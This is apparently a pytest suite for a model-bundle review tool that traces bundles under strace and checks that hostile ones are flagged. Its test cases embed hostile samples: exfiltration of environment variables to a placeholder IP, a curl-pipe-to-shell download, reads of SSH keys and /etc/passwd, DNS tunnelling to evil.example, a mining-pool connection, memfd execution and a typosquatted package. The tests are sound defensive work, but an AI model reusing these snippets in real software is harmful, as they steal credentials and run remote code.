"""Hostile bundles, each made to do one thing, and what a review says of it: rule, severity, phase, how it is known."""

import base64
import json
import shutil
import subprocess
import sys
import zipfile
from collections.abc import Mapping
from pathlib import Path
from typing import Any, NamedTuple

import pytest
from conftest import TINY_BACKEND, write_bundle
from typer.testing import CliRunner

from modelops.cli import app

pytestmark = pytest.mark.skipif(shutil.which("strace") is None, reason="strace is not installed")
WIRE = "def wire(entrypoint, params, seed):\n"
QUIET = WIRE + "    return {'out': b'done'}\n"
ENCODED = base64.b64encode(b"import os, socket\ndef quietly():\n    return dict(os.environ)\nquietly()\n" * 2).decode()
RAW_CONNECT = """
    import ctypes
    address = bytes([2, 0, 0x1f, 0x90, 192, 0, 2, 7]) + bytes(8)
    libc = ctypes.CDLL(None)
    libc.syscall(42, libc.syscall(41, 2, 1, 0), address, 16)
    return {'out': b'done'}
"""
DROPPER = """
    import os, shutil, subprocess
    shutil.copy('/bin/sh', '/tmp/payload')
    os.chmod('/tmp/payload', 0o755)
    subprocess.run(['/tmp/payload', '-c', 'exit 0'])
    return {'out': b'done'}
"""
IN_MEMORY = """
    import os
    fd = os.memfd_create('payload')
    os.write(fd, open('/bin/sh', 'rb').read())
    if os.fork() == 0:
        os.execve(fd, ['payload', '-c', 'exit 0'], {})
    os.wait()
    return {'out': b'done'}
"""
DAEMON = """
    import os, time
    if os.fork() == 0:
        if os.fork() == 0:
            time.sleep(100)
        os._exit(0)
    os.wait()
    time.sleep(0.3)
    return {'out': b'done'}
"""
MINER = """
    import socket, threading
    def work():
        value = 1
        for _ in range(200_000):
            value = value * 31 % 1000003
    workers = [threading.Thread(target=work) for _ in range(4)]
    for worker in workers: worker.start()
    for worker in workers: worker.join()
    try: socket.create_connection(('pool.supportxmr.com', 3333))
    except OSError: pass
    return {'out': b'done'}
"""
KERNEL = """
    import ctypes
    libc = ctypes.CDLL(None)
    libc.syscall(248, b'user', b'name', b'x', 1, -2)
    libc.syscall(425, 8, bytes(120))
    libc.unshare(0x10000000)
    return {'out': b'done'}
"""
HIDER = """
    import ctypes, os, sys
    sys.addaudithook(lambda event, arguments: None)
    os.dup2(os.open('/dev/null', os.O_WRONLY), 2)
    open('/tmp/\\x1b[2J\\x1b[H.txt', 'w').close()
    ctypes.CDLL(None).prctl(15, b'\\x1b[31mnothing', 0, 0, 0)
    return {'out': b'done'}
"""
POSTS = (
    TINY_BACKEND
    + """
import json, socket
try:
    socket.create_connection(("198.51.100.9", 80), 1).sendall(json.dumps(dict(os.environ)).encode())
except OSError:
    pass
"""
)


class Case(NamedTuple):
    """A bundle, and the findings that it must have: (rule, severity, phase, known)."""

    code: str
    expected: tuple[tuple[str, str, str, str], ...]
    files: Mapping[str, str | bytes] = {}
    backend: str = ""


CASES = {
    "a build that posts the environment": Case(
        QUIET, (("network-in-build", "alarm", "build", "kernel"),), backend=POSTS
    ),
    "an import that runs code in base64": Case(
        f"import base64\nexec(base64.b64decode({ENCODED!r}))\n{QUIET}",
        (("hidden-code", "alarm", "bundle", "files"), ("code-from-text", "warning", "import", "told")),
    ),
    "a task that reads credentials": Case(
        WIRE
        + "    import os\n    for path in (os.path.expanduser('~/.ssh/id_rsa'), '/etc/passwd', '/proc/1/environ'):\n"
        "        try: open(path).read()\n        except OSError: pass\n    return {'out': b'done'}\n",
        (
            ("credentials", "alarm", "task", "kernel"),
            ("other-processes", "alarm", "task", "kernel"),
            ("accounts", "notice", "task", "kernel"),
        ),
    ),
    "data in names that it looks up": Case(
        WIRE + "    import socket\n"
        "    try: socket.getaddrinfo('mfzwizltoq2dcmrqge3tqojqgezdgnbvgy3tqojq0123456.evil.example', 80)\n"
        "    except OSError: pass\n    return {'out': b'done'}\n",
        (("dns-tunnel", "alarm", "task", "kernel"), ("lookup-told", "warning", "task", "told")),
    ),
    "a connect by raw system calls": Case(WIRE + RAW_CONNECT, (("connect", "warning", "task", "kernel"),)),
    "a download that is piped to a shell": Case(
        WIRE
        + "    import os\n    os.system('/bin/sh -c \"curl http://x.example | sh\"')\n    return {'out': b'done'}\n",
        (("download-and-run", "alarm", "task", "kernel"),),
    ),
    "a process that outlives its parent": Case(WIRE + DAEMON, (("outlives-parent", "warning", "task", "kernel"),)),
    "a miner": Case(WIRE + MINER, (("mining-pool", "alarm", "task", "kernel"),)),
    "a program that is dropped": Case(WIRE + DROPPER, (("dropped-program", "alarm", "task", "kernel"),)),
    "a program in memory": Case(WIRE + IN_MEMORY, (("program-in-memory", "alarm", "task", "kernel"),)),
    "ptrace of the parent": Case(
        WIRE
        + "    import ctypes, os\n    ctypes.CDLL(None).ptrace(16, os.getppid(), 0, 0)\n    return {'out': b'done'}\n",
        (("ptrace", "alarm", "task", "kernel"),),
    ),
    "a keyring, io_uring and a namespace": Case(
        WIRE + KERNEL, (("keyring", "warning", "task", "kernel"), ("namespace", "alarm", "task", "kernel"))
    ),
    "a sleeper": Case(
        WIRE + "    import time\n    time.sleep(10)\n    return {'out': b'done'}\n",
        (("long-sleep", "warning", "task", "kernel"),),
    ),
    "one that acts elsewhere only": Case(
        "import socket\n"
        + WIRE
        + "    if socket.gethostname() != 'sandbox':\n        import evil\n    return {'out': b'done'}\n",
        (("host-name", "warning", "bundle", "files"),),
    ),
    "one that hides": Case(
        WIRE + HIDER,
        (("audit-hook", "warning", "task", "told"), ("unprintable-name", "warning", "task", "kernel")),
    ),
}


def reviewed(tmp_path: Path, bundle: Path, *options: str, status: int = 0) -> dict[str, Any]:
    """The report of a review with a task, by the command line in this process: to start it takes longer than it."""
    task = tmp_path / "task.json"
    task.write_text('{"entrypoint": "main", "params": {}, "seed": 1}')
    target = tmp_path / f"report{len(list(tmp_path.glob('report*')))}.json"
    command = ["review", str(bundle), "--task", str(task), "--json", str(target), *options]
    done = CliRunner().invoke(app, command, catch_exceptions=False)
    assert done.exit_code == status, done.stderr[-3000:] + done.stdout[-1000:]
    return dict(json.loads(target.read_text()))


def findings(report: Mapping[str, Any]) -> set[tuple[str, str, str, str]]:
    """The report's findings, a build without its number."""
    return {(f["rule"], f["severity"], f["phase"].split()[0], f["known"]) for f in report["findings"]}


@pytest.mark.parametrize("name", CASES)
def test_a_hostile_bundle_is_found_out(name: str, tmp_path: Path) -> None:
    case = CASES[name]
    report = reviewed(tmp_path, write_bundle(tmp_path / "bundle", case.code, files=case.files, backend=case.backend))
    missing = set(case.expected) - findings(report)
    assert not missing, (missing, findings(report))


def test_a_quiet_bundle_has_nothing_above_notice_twice_the_same(tmp_path: Path) -> None:
    bundle = write_bundle(tmp_path / "bundle", QUIET, backend=TINY_BACKEND)
    first, second = reviewed(tmp_path, bundle), reviewed(tmp_path, bundle)
    assert not {finding for finding in findings(first) if finding[1] in ("warning", "alarm")}
    for report in (first, second):
        del report["run"]
    assert first == second
    assert first["schema"] == 1
    assert [phase["name"] for phase in first["phases"]] == ["build probe", "import", "task"]


def test_what_a_new_version_does_besides_is_what_is_told(tmp_path: Path) -> None:
    old = write_bundle(tmp_path / "old", QUIET)
    code = (
        WIRE
        + "    import socket\n    try: socket.create_connection(('203.0.113.5', 443), 1)\n    except OSError: pass\n"
    )
    new = write_bundle(tmp_path / "new", code + "    return {'out': b'done'}\n")
    report = reviewed(tmp_path, new, "--against", str(old))
    told = [fact for fact in report["against"]["new"] if fact["known"] == "kernel" and fact["phase"] == "task"]
    assert [(fact["kind"], fact["address"]) for fact in told if fact["kind"] == "connect"] == [
        ("connect", "203.0.113.5:443")
    ]
    assert [finding["rule"] for finding in report["against"]["new_findings"]] == ["connect"]
    assert report["against"]["gone_findings"] == []


def test_the_exit_status_is_for_ci(tmp_path: Path) -> None:
    code = (
        WIRE
        + "    import socket\n    try: socket.create_connection(('203.0.113.5', 443), 1)\n    except OSError: pass\n"
    )
    bundle = write_bundle(tmp_path / "bundle", code + "    return {'out': b'done'}\n")
    reviewed(tmp_path, bundle, "--fail-on", "warning", status=1)
    reviewed(tmp_path, bundle, "--fail-on", "alarm", status=0)
    command = [sys.executable, "-m", "modelops", "review", str(tmp_path / "nowhere")]
    done = subprocess.run(command, capture_output=True, text=True)
    assert done.returncode == 2 and "nowhere" in done.stderr


def test_the_profile_that_is_told_is_enough_for_the_task(tmp_path: Path) -> None:
    code = "import ssl, zoneinfo\n" + WIRE + "    import subprocess\n    zoneinfo.ZoneInfo('Europe/Berlin')\n"
    bundle = write_bundle(
        tmp_path / "bundle", code + "    subprocess.run(['sh', '-c', 'ls /'])\n    return {'out': b'1'}\n"
    )
    report = reviewed(tmp_path, bundle)
    profile = tmp_path / "enough.toml"
    profile.write_text(report["policy"]["toml"])
    assert report["policy"]["takes_away"]
    command = ["run", str(bundle), "--task", str(tmp_path / "task.json"), "--json", "--profile", str(profile)]
    done = CliRunner().invoke(app, command, catch_exceptions=False)
    assert done.exit_code == 0, (done.stdout[-2000:], profile.read_text())


ENDINGS = {
    "a task that reaches the memory limit": (
        WIRE + "    held = [b'x' * 2**20 for _ in range(2**14)]\n",
        "", "limit", "warning", "task",
    ),
    "an import that fails": ("import nothing_like_this\n", "", "failed", "notice", "import"),
    "a build that fails": (
        QUIET, "raise SystemExit('no compiler')\n", "failed", "notice", "build"
    ),
}  # fmt: skip


@pytest.mark.parametrize("name", ENDINGS)
def test_how_it_ended_is_told_in_the_phase_where_it_did(name: str, tmp_path: Path) -> None:
    code, backend, *expected = ENDINGS[name]
    profile = tmp_path / "little.toml"  # 4 GiB take a traced task long to fill
    profile.write_text('extends = "default"\n[execute.limits]\nmemory_bytes = "256MiB"\n')
    bundle = write_bundle(tmp_path / "bundle", code, backend=backend)
    report = reviewed(tmp_path, bundle, "--profile", str(profile))
    assert (*expected, "runner") in findings(report), (report["findings"], report["phases"])


def test_without_an_entry_point_the_report_says_that_nothing_ran(tmp_path: Path) -> None:
    bundle = write_bundle(tmp_path / "bundle", QUIET)
    project = (bundle / "pyproject.toml").read_text()
    (bundle / "pyproject.toml").write_text(project.split("[project.entry-points")[0])
    report = reviewed(tmp_path, bundle)
    errors = [fact["error"] for fact in report["facts"] if fact["kind"] == "failed"]
    assert errors and all("no entry point in the group modelops.wire" in error for error in errors), errors
    assert ("failed", "notice", "import", "runner") in findings(report)


def wheel(folder: Path, name: str, files: Mapping[str, str]) -> str:
    """A wheel in `folder`; its name."""
    info = f"{name}-1.0.dist-info"
    content = {**files, f"{info}/METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n"}
    content[f"{info}/WHEEL"] = "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
    scope: dict[str, Any] = {}
    exec(TINY_BACKEND, scope)
    record = "".join(f"{path},{scope['digest'](text.encode())},{len(text)}\n" for path, text in content.items())
    target = folder / f"{name}-1.0-py3-none-any.whl"
    folder.mkdir(exist_ok=True)
    with zipfile.ZipFile(target, "w") as archive:
        for path, text in {**content, f"{info}/RECORD": record + f"{info}/RECORD,,\n"}.items():
            archive.writestr(path, text)
    return target.name


def test_packages_that_start_by_themselves_or_look_like_others(tmp_path: Path) -> None:
    """Two wheels that the bundle brings: one with a .pth file, one named almost like `requests`."""
    bundle = write_bundle(tmp_path / "bundle", QUIET)
    names = [
        wheel(bundle / "wheels", "quietly", {"quietly.py": "", "quietly.pth": "import os; os.getpid()\n"}),
        wheel(bundle / "wheels", "reqeusts", {"reqeusts.py": ""}),
    ]
    (bundle / "requirements.txt").write_text(".\n" + "".join(f"./wheels/{name}\n" for name in names))
    project = (bundle / "pyproject.toml").read_text()
    listed = 'dependencies = ["quietly", "reqeusts"]\n[tool.uv.sources]\n'
    listed += "".join(f'{name.split("-")[0]} = {{path = "wheels/{name}"}}\n' for name in names)
    (bundle / "pyproject.toml").write_text(project.replace('version = "1.0"\n', 'version = "1.0"\n' + listed))
    found = findings(reviewed(tmp_path, bundle))
    assert ("pth", "warning", "supply", "files") in found
    assert ("near-name", "alarm", "supply", "runner") in found


@pytest.mark.parametrize("option", ["--json", "--html"])
def test_a_report_that_can_not_be_written_is_refused_before_anything_runs(option: str, tmp_path: Path) -> None:
    done = CliRunner().invoke(app, ["review", str(tmp_path / "bundle"), option, str(tmp_path / "absent" / "report")])
    assert done.exit_code == 2 and "absent/report: No such file or directory" in done.stderr, done.stderr
